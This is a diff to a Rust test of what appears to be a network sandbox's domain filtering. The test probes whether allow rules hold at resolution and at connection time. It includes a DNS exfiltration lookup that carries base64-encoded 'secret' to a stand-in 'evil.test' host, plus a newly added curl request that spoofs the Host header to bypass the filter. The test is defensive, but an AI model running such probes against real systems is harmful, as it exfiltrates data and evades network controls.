@@ -196,7 +196,8 @@ async fn domains_hold_where_names_are_resolved_and_where_connections_are_made() 
              {code} https://rebind.test/; {code} http://self.test/; \
              {code} http://{OTHER}:8080/; \
              python3 -c 'import socket; print(socket.getaddrinfo(\"c2VjcmV0.evil.test\", 80))' 2>&1 | tail -1; \
-             getent ahostsv6 public.test | grep -c 2001"
+             getent ahostsv6 public.test | grep -c 2001; \
+             curl -sm 10 --request-target http://public.test/ -H 'Host: other.test' http://public.test/"
         ),
     )
     .await;
@@ -213,9 +214,14 @@ async fn domains_hold_where_names_are_resolved_and_where_connections_are_made() 
     assert!(lines[11].starts_with("000 7") && lines[12].starts_with("000 7"), "nor by address: {lines:#?}");
     assert!(lines[13].starts_with("200 "), "allowed by address: {lines:#?}");
     assert!(lines[14].contains("gaierror"), "{lines:#?}");
+    assert_eq!(
+        lines.last(),
+        Some(&public.as_str()),
+        "the server is told the name that was checked: {lines:#?}"
+    );
     assert!(host.set_nonblocking(true).is_ok() && host.accept().is_err(), "the host was reached");
     assert_eq!(world.arrivals("10.0.0.1"), 0);
-    assert_eq!(world.arrivals(PUBLIC), 3, "only what was allowed");
+    assert_eq!(world.arrivals(PUBLIC), 4, "only what was allowed");
     assert!(
         !world.names().iter().any(|name| name.contains("evil") || name.contains("other")),
         "{:?}",
